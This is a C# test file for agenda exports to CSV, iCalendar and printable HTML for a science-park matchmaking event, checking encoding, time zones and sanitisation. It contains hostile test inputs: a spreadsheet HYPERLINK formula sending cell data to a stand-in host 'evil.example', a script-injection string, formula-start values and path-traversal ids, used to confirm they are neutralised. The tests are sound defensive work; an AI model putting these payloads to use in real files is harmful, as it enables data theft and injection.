using System.Text;
using CsvHelper;
using Ical.Net;
using Matching.Engine.Events;
using Matching.Engine.Events.Exports;

namespace Matching.Engine.Tests.Events;

public class AgendaExportTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此查看\")";
    private const string Hostile = "<script>alert(1)</script>";
    private const string Tricky = "柔性OLED封装，\"低温\"工艺,\n第二行";

    private static readonly AgendaEvent Event = new(
        "evt-2026-12", "科学家进园区 · 新型显示专场", EventFormats.ScientistsInParks, "Asia/Shanghai",
        new DateTime(2026, 12, 10, 9, 0, 0), 20, "成都高新区菁蓉汇");

    private static AgendaEntry Entry(int slot, int table, string offerKind, string offerId, string title, string? expert, string? university,
        double score, string status = MeetingStatus.Confirmed)
    {
        var (start, end) = Event.SlotTime(slot);
        return new AgendaEntry(slot, start, end, table, "org-7", "成都京东方光电科技有限公司", offerKind, offerId, title, expert, university, score, status);
    }

    // Given out of order, so sorting is tested too.
    private static readonly IReadOnlyList<AgendaEntry> Entries =
    [
        Entry(2, 3, "result", "r-9", Tricky, "张三", "电子科技大学", 0.876),
        Entry(0, 5, "expert", "x-1", "量子点发光材料专家", "李四", "四川大学", 0.5, MeetingStatus.Proposed),
        Entry(1, 1, "result", "r-2", Formula, null, "西南交通大学", 0.61),
        Entry(3, 2, "result", "r-3", Hostile, "王五", null, 0.333, MeetingStatus.Declined),
    ];

    private static readonly Agenda Enterprise = new("org-7", "成都京东方光电科技有限公司", "enterprise", Entries);

    private static List<string[]> ReadCsv(byte[] bytes)
    {
        using var reader = CsvReader.Create(new MemoryStream(bytes), CsvReaderOptions.Default with { Encoding = Encoding.UTF8 }, leaveOpen: false);
        var rows = new List<string[]> { reader.Headers.ToArray() };
        while (reader.Read()) rows.Add(Enumerable.Range(0, reader.FieldCount).Select(reader.GetString).ToArray());
        return rows;
    }

    private static byte[] WriteCsv()
    {
        using var output = new MemoryStream();
        AgendaCsv.Write(output, Event, Entries);
        Assert.True(output.CanWrite, "the caller's stream must stay open");
        return output.ToArray();
    }

    [Fact]
    public void Csv_StartsWithAByteOrderMark_AndEndsLinesWithCrLf()
    {
        var bytes = WriteCsv();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.StartsWith("时段,开始,结束,桌号,企业,对接对象类型,对接对象,专家,高校,匹配度,状态,企业编号,对接对象编号,到场,进展,金额,原因\r\n", text);
        Assert.EndsWith("\r\n", text);
    }

    [Fact]
    public void Csv_ReadsBack_WithChineseCommasQuotesAndNewlinesIntact_SortedBySlot()
    {
        var rows = ReadCsv(WriteCsv());

        Assert.Equal(Entries.Count + 1, rows.Count);
        Assert.Equal(["1", "2", "3", "4"], rows.Skip(1).Select(r => r[0]));
        var first = rows[1];
        Assert.Equal(["1", "2026-12-10 09:00", "2026-12-10 09:20", "5", "成都京东方光电科技有限公司", "专家", "量子点发光材料专家", "李四", "四川大学", "0.50", "待确认"], first[..11]);
        // Ids for the outcomes that come back in the same sheet, and the empty outcome columns to fill in.
        Assert.Equal(["", "", "", ""], first[13..]);
        var tricky = rows[3];
        Assert.Equal(Tricky, tricky[6]);
        Assert.Equal("2026-12-10 09:40", tricky[1]);
        Assert.Equal("0.88", tricky[9]);
    }

    [Fact]
    public void Csv_NeutralisesAFormula_WithALeadingQuote()
    {
        var rows = ReadCsv(WriteCsv());
        var formula = rows[2][6];
        Assert.Equal("'" + Formula, formula);
        Assert.Equal("", rows[2][7]); // no expert named: an empty cell, not a null marker
    }

    [Theory]
    [InlineData("+SUM(A1:A9)")]
    [InlineData("-2+3")]
    [InlineData("@cmd")]
    [InlineData("\tTAB")]
    [InlineData("\r=1")]
    public void Csv_NeutralisesEveryFormulaStart_InAnyTextColumn(string hostile)
    {
        var entry = Entry(0, 1, "expert", "x", "标题", hostile, hostile, 0.1) with { EnterpriseName = hostile };
        using var output = new MemoryStream();
        AgendaCsv.Write(output, Event, [entry]);
        var row = ReadCsv(output.ToArray())[1];
        Assert.Equal("'" + hostile, row[4]);
        Assert.Equal("'" + hostile, row[7]);
        Assert.Equal("'" + hostile, row[8]);
    }

    [Fact]
    public void Calendar_Parses_WithOneEventPerEntry_InTheEventsTimeZone()
    {
        var text = AgendaCalendar.Write(Event, Enterprise);

        Assert.Contains("BEGIN:VTIMEZONE", text);
        Assert.Contains("TZID:Asia/Shanghai", text);
        Assert.Contains("PRODID:-//Matching//", text);
        var calendar = Calendar.Load(text)!;
        Assert.Equal(Entries.Count, calendar.Events.Count);
        Assert.All(calendar.Events, e => Assert.Equal("Asia/Shanghai", e.DtStart!.TzId));
        Assert.All(calendar.Events, e => Assert.Equal("Asia/Shanghai", e.DtEnd!.TzId));

        var third = calendar.Events.Single(e => e.Uid == "evt-2026-12-org-7-result-r-9@matching");
        Assert.Equal(new DateTime(2026, 12, 10, 9, 40, 0), third.DtStart!.Value);
        Assert.Equal(new DateTime(2026, 12, 10, 10, 0, 0), third.DtEnd!.Value);
        Assert.Equal(new DateTime(2026, 12, 10, 1, 40, 0), third.DtStart.AsUtc);
        Assert.Equal("对接：" + Tricky, third.Summary);
        Assert.Equal("成都高新区菁蓉汇 · 桌 3", third.Location);
        Assert.Contains("专家：张三", third.Description);
        Assert.Contains("高校：电子科技大学", third.Description);
        Assert.Contains("匹配度：88%", third.Description);
        Assert.NotNull(third.DtStamp);
    }

    [Fact]
    public void Calendar_DescribesShanghai_AsAFixedUtcPlusEight_WithoutPhantomRules()
    {
        var text = AgendaCalendar.Write(Event, Enterprise);
        var zone = text[text.IndexOf("BEGIN:VTIMEZONE", StringComparison.Ordinal)..(text.IndexOf("END:VTIMEZONE", StringComparison.Ordinal))];
        Assert.Contains("TZOFFSETFROM:+0800", zone);
        Assert.Contains("TZOFFSETTO:+0800", zone);
        Assert.DoesNotContain("RRULE", zone);
        Assert.DoesNotContain("DAYLIGHT", zone);
    }

    [Fact]
    public void Calendar_KeepsDaylightSavingRules_ForAZoneThatHasThem()
    {
        var summer = Event with { TimeZone = "Europe/Berlin", StartsAtLocal = new DateTime(2026, 7, 1, 9, 0, 0) };
        var (start, end) = summer.SlotTime(0);
        var agenda = Enterprise with { Entries = [Entries[1] with { StartLocal = start, EndLocal = end }] };

        var text = AgendaCalendar.Write(summer, agenda);

        Assert.Contains("BEGIN:DAYLIGHT", text);
        var e = Calendar.Load(text)!.Events.Single();
        Assert.Equal("Europe/Berlin", e.DtStart!.TzId);
        Assert.Equal(new DateTime(2026, 7, 1, 7, 0, 0), e.DtStart.AsUtc);
    }

    [Fact]
    public void Calendar_SummarisesByTheOtherSide_ForAnExpertsAgenda()
    {
        var expert = new Agenda("x-1", "李四", "expert", [Entries[1]]);
        var e = Calendar.Load(AgendaCalendar.Write(Event, expert))!.Events.Single();
        Assert.Equal("对接：成都京东方光电科技有限公司", e.Summary);
        Assert.Contains("企业：成都京东方光电科技有限公司", e.Description);
    }

    [Fact]
    public void Calendar_UsesTheDefaultZone_WhenTheEventNamesNone()
    {
        var e = Calendar.Load(AgendaCalendar.Write(Event with { TimeZone = "" }, Enterprise))!.Events.First();
        Assert.Equal("Asia/Shanghai", e.DtStart!.TzId);
    }

    [Theory]
    [InlineData("../x/y", "..\\..\\etc")]
    [InlineData("evt 1", "企业/七")]
    [InlineData("", "")]
    public void FileName_HoldsOnlySafeCharacters_WhateverTheIds(string eventId, string participantId)
    {
        var name = AgendaCalendar.FileName(Event with { Id = eventId }, Enterprise with { ParticipantId = participantId });

        Assert.EndsWith(".ics", name);
        Assert.DoesNotContain("/", name);
        Assert.DoesNotContain("\\", name);
        Assert.DoesNotContain("..", name);
        Assert.Matches("^[A-Za-z0-9_-]+\\.ics$", name);
    }

    [Fact]
    public void FileName_KeepsPlainIdsReadable()
    {
        Assert.Equal("evt-2026-12-enterprise-org-7.ics", AgendaCalendar.FileName(Event, Enterprise));
    }

    [Fact]
    public void Page_IsAPrintableA4Document_WithEveryUserStringEncoded()
    {
        var expert = new Agenda("x-2", "王五 <b>教授</b>", "expert", [Entries[3]]);

        var html = AgendaPage.Render(Event, [Enterprise, expert]);

        Assert.StartsWith("<!DOCTYPE html>", html);
        Assert.Contains("<html lang=\"zh-CN\">", html);
        Assert.Contains("<meta charset=\"utf-8\">", html);
        Assert.Contains("@page", html);
        Assert.Contains("size: A4", html);
        Assert.Contains("max-width: 180mm", html);
        Assert.Contains("table-layout: fixed", html);
        Assert.Contains("overflow-wrap: anywhere", html);
        Assert.Contains("font-family: \"Noto Sans CJK SC\", \"Noto Sans SC\"", html);
        Assert.Contains("break-before: page", html);
        Assert.Contains("科学家进园区 · 新型显示专场", html);
        Assert.Contains("成都高新区菁蓉汇", html);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", html);
        Assert.DoesNotContain("<script", html);
        Assert.DoesNotContain("<b>", html);
        Assert.Contains("王五 &lt;b&gt;教授&lt;/b&gt;", html);
        Assert.Equal(2, CountOf(html, "<section class=\"agenda\">"));
        // Nothing to fetch: the page prints the same offline.
        Assert.DoesNotContain("<link", html);
        Assert.DoesNotContain("src=", html);
        Assert.DoesNotContain("url(", html);
        Assert.DoesNotContain("@import", html);
    }

    [Fact]
    public void Page_ListsMeetingsInTimeOrder_WithTheOtherSide()
    {
        var html = AgendaPage.Render(Event, [Enterprise]);
        var first = html.IndexOf("09:00–09:20", StringComparison.Ordinal);
        var last = html.IndexOf("10:00–10:20", StringComparison.Ordinal);
        Assert.True(first > 0 && last > first);
        Assert.Contains("量子点发光材料专家", html);
        Assert.Contains("李四 · 四川大学", html);
        Assert.Contains(">50%<", html);
        Assert.Contains("已确认", html);
    }

    private static int CountOf(string text, string part)
    {
        var count = 0;
        for (var i = text.IndexOf(part, StringComparison.Ordinal); i >= 0; i = text.IndexOf(part, i + part.Length, StringComparison.Ordinal)) count++;
        return count;
    }
}
